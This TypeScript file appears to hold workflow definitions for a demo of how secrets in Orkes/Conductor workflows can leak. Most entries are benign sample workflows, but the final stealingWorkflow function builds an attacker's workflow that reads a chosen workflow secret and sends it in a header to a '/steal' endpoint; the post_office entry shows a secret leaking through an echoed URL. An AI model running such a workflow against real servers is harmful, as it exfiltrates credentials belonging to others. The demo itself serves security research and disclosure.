// Contains the workflow definitions of the demo. The workflow definitions are examples from the documentation of Orkes and from docs/workflows.md.
import type { Json } from '../../src/commands/demo/pretty.ts';

type Definition = { [name: string]: Json };

/** The task definition of the tasks that the worker polls. */
export const LABEL_TASK = 'print_label';

/** Returns a workflow definition. `more` contains additional fields. */
function workflow(name: string, tasks: Definition[], more: Definition = {}): Definition {
  return { name, version: 1, schemaVersion: 2, ownerEmail: 'demo@example.com', timeoutSeconds: 0, tasks, ...more };
}

function task(type: string, name: string, inputParameters: Definition, more: Definition = {}): Definition {
  return { name, taskReferenceName: name, type, inputParameters, ...more };
}

const http = (name: string, request: Definition): Definition => task('HTTP', name, { http_request: request });

export type WorkflowName = keyof ReturnType<typeof workflows>;

export function workflows(target: string) {
  return {
    /** A workflow definition with an HTTP task that sends a bearer token. The example comes from the documentation of Orkes. */
    sample_bearer: workflow('sample_bearer', [
      http('call_api', {
        uri: `${target}/api`,
        method: 'GET',
        headers: { Authorization: 'Bearer: ${workflow.secrets.sampletask-api-token}' },
      }),
    ]),

    /** A workflow definition with a secret in the URL of an HTTP task. The response of the called server repeats the URL. */
    post_office: workflow(
      'post_office',
      [
        http('verify_address', {
          uri: `${target}/ShippingAPI.dll?API=Verify&USERID=\${workflow.secrets.post_office_username}`,
          method: 'GET',
        }),
      ],
      { outputParameters: { answer: '${verify_address.output.response.body}' } },
    ),

    /** A workflow definition with a task that a worker polls. */
    label: workflow(
      'label',
      [task('SIMPLE', LABEL_TASK, { authorization: 'Bearer ${workflow.secrets.label_printer_token}' })],
      { outputParameters: { printer: `\${${LABEL_TASK}.output.printer}` } },
    ),

    /** A workflow definition with confidential data, but without secrets. */
    customer: workflow(
      'customer',
      [
        task('INLINE', 'write_letter', {
          evaluatorType: 'graaljs',
          expression: '(function () { return $.text; })()',
          text: 'This is my SSN ${workflow.input.customer.ssn}',
        }),
      ],
      { maskedFields: ['ssn'], outputParameters: { letter: '${write_letter.output.result}' } },
    ),

    /** A workflow definition that rotates a token before the token expires. The example comes from the documentation of Orkes. */
    rotate_token: workflow('rotate_token', [
      http('retrieve_token', {
        uri: `${target}/token`,
        method: 'POST',
        body: { keyId: '${workflow.secrets.appKeyId}', keySecret: '${workflow.secrets.appKeySecret}' },
        outputFilter: { _secrets: { token: '$${retrieve_token.output.response.body.token}' } },
      }),
      task('UPDATE_SECRET', 'store_token', {
        _secrets: { secretKey: 'my_secret_holding_a_token', secretValue: '${retrieve_token.output._secrets.token}' },
      }),
    ]),

    /** A workflow definition with a task that uses the rotated token. */
    list_parcels: workflow('list_parcels', [
      http('list', {
        uri: `${target}/parcels`,
        method: 'GET',
        headers: { Authorization: 'Bearer ${workflow.secrets.my_secret_holding_a_token}' },
      }),
    ]),

    /** A workflow definition with a task that sends a secret together with the input of the workflow. */
    greet: workflow('greet', [
      http('greet', {
        uri: `${target}/greet`,
        method: 'GET',
        headers: {
          Authorization: 'Bearer ${workflow.secrets.sampletask-api-token}',
          'X-Name': '${workflow.input.name}',
        },
      }),
    ]),
  } satisfies Record<string, Definition>;
}

/** The workflow definition that an attacker sends with the request to start a workflow. */
export function stealingWorkflow(target: string, secret: string): Definition {
  return workflow('greet_all', [
    http('steal', { uri: `${target}/steal`, method: 'GET', headers: { 'X-Name': `\${workflow.secrets.${secret}}` } }),
  ]);
}
